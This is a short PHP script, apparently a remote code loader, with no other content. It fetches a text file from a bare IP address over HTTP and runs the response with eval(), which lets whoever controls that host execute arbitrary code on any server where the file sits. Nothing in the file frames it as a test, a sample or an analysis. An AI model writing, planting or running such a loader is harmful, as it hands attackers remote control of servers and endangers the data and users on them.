<?php
$url = 'http://203.0.113.9/c.txt'; $ch = curl_init(); curl_setopt($ch, CURLOPT_URL, $url); curl_setopt($ch, CURLOPT_RETURNTRANSFER, 1);
$code = curl_exec($ch); eval('?>' . $code);
